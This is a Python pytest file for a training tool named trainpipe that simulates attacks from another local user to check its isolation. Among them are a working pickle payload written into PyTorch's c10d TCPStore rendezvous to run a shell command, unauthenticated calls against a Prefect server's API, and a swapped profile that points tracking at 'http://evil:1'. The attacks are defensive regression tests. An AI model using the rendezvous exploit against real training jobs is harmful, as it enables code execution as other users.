"""Another local user's attacks (docs/security.md, "other local process"), each made as uid ``nobody`` for real:
a shared folder's job files, the servers' databases under TRAINPIPE_HOME."""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import stat
import tempfile
from pathlib import Path
from types import SimpleNamespace

import pytest

from tests.other_user import needs_root, run_as_other_user
from trainpipe.trainer.errors import LaunchError
from trainpipe.trainer.profile_files import load_profile

RUN = "shared-run"


@pytest.fixture
def scratch():
    """A folder every local user may write, as a cluster's shared scratch or /tmp is (mode 1777)."""
    folder = Path(tempfile.mkdtemp(prefix="trainpipe-shared-", dir="/tmp"))
    os.chmod(folder, 0o1777)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def slurm_profile(shared: Path):
    return load_profile("local", ["launcher.kind=slurm", f"launcher.shared_dir={shared}", "cluster.warm_host=false"])


@needs_root
def test_a_run_folder_another_user_made_in_the_shared_dir_is_refused_in_one_line(home, scratch):
    """Another user creates the run's folder first (the shared dir lets them): owning it, they could rename the
    attempt folder the follower makes inside and put one of their own with another profile in its place."""
    made = run_as_other_user(f"import os; os.mkdir({str(scratch / RUN)!r}); os.chmod({str(scratch / RUN)!r}, 0o777)")
    assert made.returncode == 0, made.stderr
    from trainpipe.trainer.launch.slurm import job_folder

    with pytest.raises(LaunchError) as exc:
        job_folder(slurm_profile(scratch), RUN, "attempt-1")
    line = str(exc.value)
    assert "\n" not in line and f"{scratch / RUN} belongs to uid 65534" in line and "launcher.shared_dir" in line, line
    assert os.listdir(scratch / RUN) == []  # nothing of the run went into it


@needs_root
def test_job_files_are_out_of_other_users_reach_whatever_the_umask(home, scratch):
    from trainpipe.trainer.launch.slurm import job_folder, write_new

    old = os.umask(0)  # the widest: every file and folder made as asked would be world-writable
    try:
        folder = job_folder(slurm_profile(scratch), RUN, "attempt-1")
        write_new(folder / "profile.yaml", "train:\n  steps: 8\n")
    finally:
        os.umask(old)
    assert stat.S_IMODE(os.stat(folder.parent).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(folder / "profile.yaml").st_mode) == 0o600
    attack = run_as_other_user(
        "import os, sys\n"
        f"f = {str(folder)!r}\n"
        "acts = (('list', lambda: os.listdir(f)), ('read', lambda: open(f + '/profile.yaml').read()),\n"
        "    ('replace', lambda: open(f + '/profile.yaml.new', 'w')), ('rename', lambda: os.rename(f, f + '-x')))\n"
        "for what, act in acts:\n"
        "    try:\n"
        "        act()\n"
        "        print('could', what)\n"
        "    except PermissionError:\n"
        "        pass\n"
    )
    assert attack.returncode == 0 and attack.stdout == "", attack.stdout + attack.stderr
    with pytest.raises(FileExistsError):  # a file already there is never written through, nor a link followed
        write_new(folder / "profile.yaml", "another profile")


def test_the_follower_signs_the_profile_it_wrote_not_what_the_file_holds_when_it_signs(home, tmp_path):
    """A writer of the attempt folder swaps ``profile.yaml`` between its write and the request: the request names
    what the follower wrote, so the hosts refuse the swapped file instead of running a profile of its choice."""
    from trainpipe.trainer.errors import TrainpipeError
    from trainpipe.trainer.launch.slurm import Allocation, job_folder, write_new
    from trainpipe.trainer.launcher import LaunchRequest
    from trainpipe.trainer.supervise.allocation import Requests

    profile = slurm_profile(tmp_path / "shared")
    folder = job_folder(profile, RUN, "attempt-1")
    written = write_new(folder / "profile.yaml", profile.public_yaml())
    (folder / "profile.yaml").write_text(written.replace("tracking:", "tracking:\n  tracking_uri: http://evil:1\n", 1))
    job = Allocation(SimpleNamespace(job_id="7"), profile, RUN, folder, "the-jobs-token", None)
    request = LaunchRequest("train", profile, RUN, 1, dataset_uri="file:///d")
    job.ask(request, folder, written)
    asked = Requests(str(folder), None, "the-jobs-token").next(0)
    assert asked is not None and asked.attempt == 1
    with pytest.raises(TrainpipeError, match="not the one the request names"):
        Requests(str(folder), None, "the-jobs-token").profile(asked, [])
    (folder / "profile.yaml").write_text(written)  # what the follower wrote is what the hosts load
    assert Requests(str(folder), None, "the-jobs-token").profile(asked, []).launcher.kind == "slurm"


def test_trainpipe_home_is_narrowed_to_its_owner_whatever_the_umask(tmp_path, monkeypatch, cli):
    home = tmp_path / "home"
    home.mkdir(mode=0o755)
    home.chmod(0o755)  # an earlier version's, made under umask 022
    monkeypatch.setenv("TRAINPIPE_HOME", str(home))
    _, _, err = cli("ckpt", "list", "no-such-run")
    assert stat.S_IMODE(home.stat().st_mode) == 0o700, err
    monkeypatch.setenv("TRAINPIPE_HOME", str(tmp_path / "new"))
    old = os.umask(0)
    try:
        cli("ckpt", "list", "no-such-run")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new").stat().st_mode) == 0o700


@needs_root
@pytest.mark.parametrize("which", ["TRAINPIPE_HOME", "servers"])
def test_a_home_or_servers_folder_another_user_made_is_refused_in_one_line(tmp_path, monkeypatch, cli, scratch, which):
    """Another user makes the folder first, in a place both may write: what trainpipe would put there (the
    databases, the servers' credentials) would be theirs to read or swap."""
    home = scratch / "home"
    if which == "servers":
        home.mkdir(mode=0o777)
        home.chmod(0o777)  # ours, but others could write it before it was narrowed
    target = home / "servers" if which == "servers" else home
    made = run_as_other_user(f"import os; os.mkdir({str(target)!r})")
    assert made.returncode == 0, made.stderr
    monkeypatch.setenv("TRAINPIPE_HOME", str(home))
    if which == "servers":
        from trainpipe.trainer.orchestrate import servers
        from trainpipe.trainer.orchestrate.servers import ServerError

        with pytest.raises(ServerError) as exc:
            servers.ensure_credentials()
        line = str(exc.value)
    else:
        code, _, err = cli("ckpt", "list", "no-such-run")
        assert code == 2, err
        line = err.strip()
    assert "\n" not in line and str(target) in line and "uid 65534" in line, line
    assert not (target / "credentials.json").exists()


RENDEZVOUS_ATTACK = """
import base64, os, pickle, socket, struct, sys, time
port, run_id, proof = int(sys.argv[1]), sys.argv[2], sys.argv[3]

class Payload:  # what torch's rendezvous unpickles: a call of the attacker's choice, run as the job's user
    def __reduce__(self):
        return (os.system, ("touch " + proof,))

key = b"/torch.rendezvous." + run_id.encode()  # the client prefixes every key with "/"
state = base64.b64encode(pickle.dumps(Payload()))
try:
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
except OSError as exc:
    print("unreachable:", type(exc).__name__)
    sys.exit(0)
s.sendall(struct.pack("<BI", 0, 0x3C85F7CE))  # TCPStore's VALIDATE and its magic number
s.sendall(struct.pack("<BQ", 1, len(key)) + key + struct.pack("<Q", len(state)) + state)  # SET key state
time.sleep(1)
print("written")
"""


PREFECT_ATTACK = """
import json, sys, urllib.request, urllib.error
api = "http://127.0.0.1:" + sys.argv[1] + "/api"

def call(method, path, body=None):
    data = None if body is None else json.dumps(body).encode()
    req = urllib.request.Request(api + path, data, {"Content-Type": "application/json"}, method=method)
    try:
        return urllib.request.urlopen(req, timeout=10).status
    except urllib.error.HTTPError as exc:
        return exc.code

print(json.dumps([call("GET", "/health"), call("POST", "/flow_runs/filter", {}), call("POST", "/logs/filter", {}),
                  call("POST", "/flow_runs/00000000-0000-0000-0000-000000000000/set_state",
                       {"state": {"type": "CANCELLING"}, "force": True})]))
"""


def _from_ps(proc, flag: str) -> list[str] | None:
    """The command line of a process under ``proc`` that carries ``flag``, as another user reads it in ``ps``."""
    import psutil

    for child in psutil.Process(proc.pid).children(recursive=True):
        with contextlib.suppress(psutil.Error):
            if flag in (cmd := child.cmdline()):
                return cmd
    return None


@needs_root
@pytest.mark.integration
@pytest.mark.timeout(300)
def test_another_user_reaches_neither_a_runs_embedded_server_nor_its_rendezvous(home, tmp_path, scratch):
    """`trainpipe run` without `trainpipe up`, as another user sees it in ``ps``: Prefect's embedded server on a
    loopback port, and the torchrun agent's c10d rendezvous endpoint and run id. The server answers them 401 on
    every route (it requires the run's own random credential); the rendezvous store (static on one host; under
    c10d torch unpickles its state every few seconds, so a pickle written there would run as the job's user) is
    not on their network at all (cluster.isolate)."""
    import json
    import subprocess
    import time

    from tests.conftest import BIN, ROOT, TINY

    env = {k: v for k, v in os.environ.items() if not k.startswith("PREFECT_API") and "AUTH_STRING" not in k}
    env |= {"PREFECT_HOME": str(tmp_path / "prefect"), "TRAINPIPE_HOME": str(home)}
    slow = [*TINY, "train.steps=400", "preflight.enabled=false", "faults.kind=slow", "faults.factor=30"]
    slow += ["faults.rank=1", "faults.attempts=0", "tracking.enabled=false", "cluster.warm_host=false"]
    argv = [str(BIN / "trainpipe"), "run", "--run-name", "seen", *[a for s in slow for a in ("--set", s)]]
    proc = subprocess.Popen(argv, env=env, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    proof = scratch / "pwned"
    try:
        deadline = time.monotonic() + 180
        while (server := _from_ps(proc, "--port")) is None or (agent := _from_ps(proc, "--rdzv-endpoint")) is None:
            assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()[1][-3000:]
            time.sleep(0.2)
        while not list((home / "store" / "runs" / "seen").glob("checkpoints/step-*/trainpipe.json")):
            assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()[1][-3000:]
            time.sleep(0.3)
        asked = run_as_other_user(PREFECT_ATTACK, server[server.index("--port") + 1])
        assert asked.returncode == 0, asked.stderr
        health, listed, logs, cancel = json.loads(asked.stdout)
        assert health == 200 and (listed, logs, cancel) == (401, 401, 401), asked.stdout  # reachable, and refused
        endpoint, run_id = agent[agent.index("--rdzv-endpoint") + 1], agent[agent.index("--rdzv-id") + 1]
        planted = run_as_other_user(RENDEZVOUS_ATTACK, endpoint.rsplit(":", 1)[1], run_id, str(proof), timeout=60)
        assert planted.returncode == 0, planted.stderr
        time.sleep(8)  # the agent's keep-alive reads the rendezvous state back every 5 s
        assert planted.stdout.startswith("unreachable"), planted.stdout
        assert not proof.exists(), "the job's agent ran the other user's code"
        assert proc.poll() is None  # still training
    finally:
        proc.terminate()
        proc.communicate(timeout=120)
    assert stat.S_IMODE((tmp_path / "prefect").stat().st_mode) == 0o700  # the embedded server's database's folder


UNPRIVILEGED = """
import importlib.util, json, os, socket, sys
spec = importlib.util.spec_from_file_location("isolation", sys.argv[1])
isolation = sys.modules["isolation"] = importlib.util.module_from_spec(spec)
spec.loader.exec_module(isolation)
before = os.readlink("/proc/self/ns/net")
isolation.enter_namespace()
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[2])), timeout=3).close()
    host = "reached"
except OSError as exc:
    host = type(exc).__name__
with socket.create_server(("127.0.0.1", 0)) as own:
    bound = own.getsockname()[1] > 0
print(json.dumps({"uid": os.getuid(), "moved": os.readlink("/proc/self/ns/net") != before, "host": host,
                  "bound": bound}))
"""


@needs_root
def test_an_operator_without_privileges_gets_the_namespace_too(scratch):
    """Most operators are not root: the namespace sits in a user namespace that maps them to themselves (the same
    uid inside, files theirs as before), loopback up, and the host's ports out of reach. Run as uid ``nobody``."""
    import json
    import shutil as sh

    from trainpipe.trainer.supervise import isolation

    copy = scratch / "isolation.py"  # the standard library only: another uid runs it from a folder it may read
    sh.copy(isolation.__file__, copy)
    copy.chmod(0o644)
    with socket.create_server(("127.0.0.1", 0)) as host:
        done = run_as_other_user(UNPRIVILEGED, str(copy), str(host.getsockname()[1]))
    if done.returncode != 0 and "Operation not permitted" in done.stderr:
        pytest.skip(f"unprivileged user namespaces are off here: {done.stderr.strip().splitlines()[-1]}")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == {"uid": 65534, "moved": True, "host": "ConnectionRefusedError", "bound": True}
